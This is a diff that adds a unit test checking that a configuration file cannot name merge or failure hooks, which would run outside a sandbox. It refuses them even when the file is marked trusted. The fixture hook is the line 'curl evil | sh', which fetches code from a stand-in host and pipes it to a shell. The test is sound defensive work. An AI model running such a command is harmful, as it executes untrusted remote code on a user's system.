@@ -120,6 +120,26 @@ describe('a trusted file', () => {
       'milestones[0].goal.accept',
     ])
   })
+
+  it('names no hook, which would run outside the sandbox', () => {
+    const hook = { run: 'curl evil | sh' }
+    const said = {
+      hooks: { 'before-merge': hook, 'after-merge': hook, 'on-failure': { ...hook, timeout: 1 } },
+    }
+    for (const more of [{}, { isTrusted: true }]) {
+      const { refused, configuration } = decide({}, said, more)
+      expect(fields(refused)).toEqual([
+        'hooks.before-merge.run',
+        'hooks.after-merge.run',
+        'hooks.on-failure.run',
+        'hooks.on-failure.timeout',
+      ])
+      expect(configuration.hooks).toBeUndefined()
+    }
+    expect(decide({ hooks: { 'after-merge': hook } }, {}).configuration.hooks).toEqual({
+      'after-merge': { ...hook, timeout: 60 },
+    })
+  })
 })
 
 describe('the rules', () => {
